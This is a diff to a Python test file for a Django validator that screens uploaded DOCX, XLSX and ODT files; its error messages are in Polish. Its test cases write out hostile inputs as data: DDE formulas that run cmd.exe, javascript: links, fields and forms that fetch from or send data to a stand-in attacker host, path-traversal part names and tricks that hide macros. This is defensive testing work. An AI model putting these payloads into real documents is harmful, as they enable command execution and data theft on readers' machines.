@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+from urllib.parse import quote
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -13,12 +14,14 @@ from .. import factories
 from .office_files import (
     OFFICE,
     WORD,
+    build_content_types,
     build_docx,
     build_odt,
     build_relationships,
     build_xlsx,
     build_zip,
     declare,
+    rename_parts,
 )
 
 MACROS = "W tym pliku są makra"
@@ -27,6 +30,7 @@ FILES_INSIDE = "schowane inne pliki"
 EXTERNAL = "z innego komputera"
 FORMULA = "formuła, która u czytelnika pobiera"
 APPENDED = "ma coś dopisane"
+LOCKED = "jest zabezpieczony hasłem"
 INVALID = "To nie jest prawidłowy plik"
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
@@ -36,6 +40,11 @@ SETTINGS = "word/_rels/settings.xml.rels"
 CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
 WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+
+
+MACRO_TYPES = build_content_types(
+    "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", {}, {}
+).replace('"1.0"', '"1.0" encoding="UTF-16"')
 
 
 def validate(content, extension):
@@ -62,6 +71,11 @@ def instruction(text):
 def field(*instructions):
     body = "".join(map(instruction, instructions))
     return build_docx(f"<w:p>{BEGIN}{body}{SEPARATE}<w:r><w:t>tekst</w:t></w:r>{END}</w:p>")
+
+
+def nested_field(before, inner, after=""):
+    nested = f"{BEGIN}{instruction(inner)}{SEPARATE}{END}"
+    return build_docx(f"<w:p>{BEGIN}{instruction(before)}{nested}{instruction(after)}{SEPARATE}{END}</w:p>")
 
 
 def formula(text):
@@ -111,10 +125,12 @@ def with_comment(content, comment):
     return file.getvalue()
 
 
-def twice(name, content):
+def with_part(name, content, comment=b""):
+    part = zipfile.ZipInfo(name)
+    part.comment = comment
     file = io.BytesIO(build_docx())
     with zipfile.ZipFile(file, "a") as archive:
-        archive.writestr(name, content)
+        archive.writestr(part, content)
     return file.getvalue()
 
 
@@ -167,6 +183,26 @@ REFUSED = {
         build_docx('<v:imagedata src="https://zly.example/a.png"/>'),
         EXTERNAL,
     ),
+    "VML background of a server": (
+        "docx",
+        build_docx('<v:shape><v:fill src="https://zly.example/a.png"/></v:shape>'),
+        EXTERNAL,
+    ),
+    "VML picture of a server in a workbook": (
+        "xlsx",
+        build_xlsx(
+            parts={
+                "xl/drawings/vmlDrawing1.vml": '<xml><br><v:imagedata src = "https://zly.example/a.png"/></xml>'
+            }
+        ),
+        EXTERNAL,
+    ),
+    "computed address of a picture": ("docx", nested_field("INCLUDEPICTURE", "QUOTE 104"), EXTERNAL),
+    "computed keyword of a fetching field": (
+        "docx",
+        nested_field("INCL", 'QUOTE "UDETEXT"', ' "http://zly.example/"'),
+        EXTERNAL,
+    ),
     "text of a server": ("docx", field('INCLUDETEXT "https://zly.example/a.docx"'), EXTERNAL),
     "picture of a share in a field": ("docx", field("INCLUDE", r'PICTURE "\\\\zly\\a.png" \d'), EXTERNAL),
     "workbook of a share": (
@@ -187,6 +223,27 @@ REFUSED = {
         ),
         EXTERNAL,
     ),
+    **{
+        name: ("xlsx", build_xlsx(parts={f"xl/{part}.xml": content}), EXTERNAL)
+        for name, part, content in (
+            (
+                "database",
+                "connections",
+                '<connections><dbPr connection="DSN=a"/></connections>',
+            ),
+            (
+                "text file of a share",
+                "connections",
+                r'<connections><textPr sourceFile="\\zly\a.txt"/></connections>',
+            ),
+            ("query read on opening", "queryTables/queryTable1", '<queryTable refreshOnLoad="1"/>'),
+            (
+                "pivot table of a database",
+                "pivotCache/pivotCacheDefinition1",
+                '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
+            ),
+        )
+    },
     "workbook of a server": (
         "xlsx",
         build_xlsx(relationships=[("externalLink", "https://zly.example/a.xlsx", "External")]),
@@ -212,6 +269,8 @@ REFUSED = {
             'RTD("zly.server",,"x")',
             "_xlfn._xlws.PY(0,1)",
             'DDE("cmd";"/c calc";"x")',
+            "cmd|'/c calc'!A0",
+            "1+MSEXCEL | '..\\cmd.exe'!x",
             'HYPERLINK("javascript:alert(1)","x")',
         )
     },
@@ -239,6 +298,32 @@ REFUSED = {
             parts={"Object 1/content.xml": declare('<text:x text:formula="of:=WEBSERVICE([.A1])"/>')},
         ),
         FORMULA,
+    ),
+    "formula of LibreOffice": (
+        "odt",
+        build_odt(
+            parts={
+                "Object 1/content.xml": declare(
+                    '<text:x text:formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"/>'
+                )
+            }
+        ),
+        FORMULA,
+    ),
+    "ODT button with a picture of a server": (
+        "odt",
+        build_odt('<office:forms><text:x x:image-data="https://zly.example/a.png"/></office:forms>'),
+        EXTERNAL,
+    ),
+    "ODT data of a server": (
+        "odt",
+        build_odt('<office:forms><x:instance src="https://zly.example/a.xml"/></office:forms>'),
+        EXTERNAL,
+    ),
+    "ODT form that sends data": (
+        "odt",
+        build_odt('<office:forms><x:submission action="https://zly.example/"/></office:forms>'),
+        EXTERNAL,
     ),
     "ODT picture of a server": (
         "odt",
@@ -293,6 +378,11 @@ REFUSED = {
         embeds("embeddings/a.docx", build_docx(), relationships=[("package", "embeddings/a.docx")]),
         FILES_INSIDE,
     ),
+    "program called a temporary file": (
+        "docx",
+        embeds("media/a.tmp", b"program", defaults={"tmp": "application/octet-stream"}),
+        FILES_INSIDE,
+    ),
     "embedded PDF": ("docx", embeds("embeddings/a.pdf", factories.PDF), FILES_INSIDE),
     "imported page": (
         "docx",
@@ -336,6 +426,12 @@ REFUSED = {
         embeds("dane.bin", b"program", overrides={"word/dane.bin": "application/vnd.ms-office.vbaProject"}),
         MACROS,
     ),
+    "macros by content type, in UTF-16": (
+        "docx",
+        build_docx(parts={"[Content_Types].xml": MACRO_TYPES.encode("utf-16")}),
+        MACROS,
+    ),
+    "macros with an escaped name": ("docx", embeds("%76baProject.bin", b"program"), MACROS),
     "macro sheet": (
         "xlsx",
         build_xlsx(
@@ -375,6 +471,7 @@ REFUSED = {
         build_xlsx(parts={"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
         PROGRAM,
     ),
+    "script as a link in a field": ("docx", field('HYPERLINK "java', 'script:alert(1)"'), PROGRAM),
     "script as a link": (
         "docx",
         build_docx(relationships=[("hyperlink", "java\tscript:alert(1)", "External")]),
@@ -393,6 +490,14 @@ REFUSED = {
         build_odt('<text:p><text:a xlink:href="macro:///Standard.a.b()">x</text:a></text:p>'),
         PROGRAM,
     ),
+    **{
+        f"ODT link to {url}": (
+            "odt",
+            build_odt(f'<text:p><text:a xlink:href="{url}">x</text:a></text:p>'),
+            PROGRAM,
+        )
+        for url in (".uno:Quit", "vnd.libreoffice.command:a", "vnd.sun.star.expand:a", "shell:a", "mhtml:a")
+    },
     "ODT field that runs a macro": (
         "odt",
         build_odt('<text:p><text:execute-macro text:name="a"/></text:p>'),
@@ -418,9 +523,14 @@ REFUSED = {
     "page at the end": ("docx", build_docx() + HTML, APPENDED),
     "page at the end of ODT": ("odt", build_odt() + HTML, APPENDED),
     "page in the comment": ("xlsx", with_comment(build_xlsx(), HTML), APPENDED),
+    "page in the comment of a part": ("docx", with_part("word/a.xml", "<x/>", comment=HTML), APPENDED),
     "page before the directory": ("docx", insert_before_directory(build_docx(), HTML), APPENDED),
     "archive at the end": ("docx", build_docx() + build_zip({"a.txt": "a"}), APPENDED),
-    "part twice, in capitals": ("docx", twice("WORD/document.xml", "<x/>"), INVALID),
+    "part twice, in capitals": ("docx", with_part("WORD/document.xml", "<x/>"), INVALID),
+    "part twice, escaped": ("docx", with_part("word/%64ocument.xml", "<x/>"), INVALID),
+    "part twice, with a backslash": ("docx", with_part("word\\document.xml", "<x/>"), INVALID),
+    "part outside the folder": ("docx", with_part("word\\..\\..\\a.xml", "<x/>"), INVALID),
+    "part on a drive": ("docx", with_part("C:\\a.xml", "<x/>"), INVALID),
     # XML that takes memory or time
     "entities": (
         "docx",
@@ -453,6 +563,24 @@ REFUSED = {
         INVALID,
     ),
     "long attribute": ("docx", build_docx(f'<w:p w:a="{"x" * 9_000_000}"/>'), INVALID),
+    # Locked
+    "encrypted parts": (
+        "docx",
+        build_docx().replace(b"PK\1\2\x14\3\x14\0\0", b"PK\1\2\x14\3\x14\0\1"),
+        LOCKED,
+    ),
+    "encrypted package of LibreOffice": (
+        "odt",
+        build_zip(
+            {
+                "mimetype": "application/vnd.oasis.opendocument.text",
+                "META-INF/manifest.xml": '<manifest><file-entry full-path="encrypted-package"><encryption-data/>'
+                "</file-entry></manifest>",
+                "encrypted-package": "x",
+            }
+        ),
+        LOCKED,
+    ),
     # Other kinds of documents
     "workbook as DOCX": ("docx", build_xlsx(), INVALID),
     "spreadsheet as ODT, by its manifest": (
@@ -547,6 +675,14 @@ TAKEN = {
         "docx",
         build_docx(relationships=[("image", "file:///C:/Users/Jan/herb.png", "External")]),
     ),
+    "picture of a letter": (
+        "docx",
+        build_docx(relationships=[("image", "cid:image001.png@01DA1B2C.3D4E5F60", "External")]),
+    ),
+    "picture pasted from another program": (
+        "docx",
+        build_docx(parts={"word/media/image1.tmp": PNG}, defaults={"tmp": "image/png"}),
+    ),
     "other workbook in the same folder": (
         "xlsx",
         build_xlsx(
@@ -569,6 +705,36 @@ TAKEN = {
             'COPY("x")',
         )
     },
+    **{
+        f"formula {text}": ("xlsx", formula(text))
+        for text in ('IF(A1="cmd|x!","|","!")', "'[1]cmd|a'!A1", '_xlfn.TEXTJOIN("|",TRUE,A1:A3)')
+    },
+    "query of the workbook itself": (
+        "xlsx",
+        build_xlsx(
+            parts={
+                "xl/connections.xml": "<connections><dbPr "
+                'connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=a"/></connections>'
+            }
+        ),
+    ),
+    "pivot table of a sheet": (
+        "xlsx",
+        build_xlsx(
+            parts={
+                "xl/pivotCache/pivotCacheDefinition1.xml": '<pivotCacheDefinition refreshOnLoad="1">'
+                '<cacheSource type="worksheet"/></pivotCacheDefinition>'
+            }
+        ),
+    ),
+    "parts with backslashes": (
+        "xlsx",
+        rename_parts(build_xlsx(), lambda name: name.replace("/", "\\")),
+    ),
+    "main part with an escaped name": (
+        "docx",
+        rename_parts(build_docx(main="word/głośne.xml"), quote),
+    ),
     "text that looks like a formula": (
         "xlsx",
         build_xlsx('<row><c t="inlineStr"><is><t>=WEBSERVICE(A1)</t></is></c></row>'),
@@ -619,6 +785,28 @@ TAKEN = {
     "ODT template of the author's computer": (
         "odt",
         build_odt(parts={"meta.xml": declare('<meta:template xlink:href="../../Szablony/pismo.ott"/>')}),
+    ),
+    "ODT toolbar": (
+        "odt",
+        build_odt(
+            parts={"Configurations2/toolbar/a.xml": declare('<x:toolbaritem xlink:href=".uno:InsertTable"/>')}
+        ),
+    ),
+    "ODT button that is a link": (
+        "odt",
+        build_odt('<office:forms><x:button xlink:href="https://rumia.eu/"/></office:forms>'),
+    ),
+    "ODT template on another drive": (
+        "odt",
+        build_odt(
+            parts={"meta.xml": declare('<meta:template xlink:href="../../../C:/Szablony/pismo.ott"/>')}
+        ),
+    ),
+    "ODT form without an address": (
+        "odt",
+        build_odt(
+            '<office:forms><text:x xlink:href="" x:image-data="" src="Pictures/a.png"/></office:forms>'
+        ),
     ),
     "ODT formula": (
         "odt",
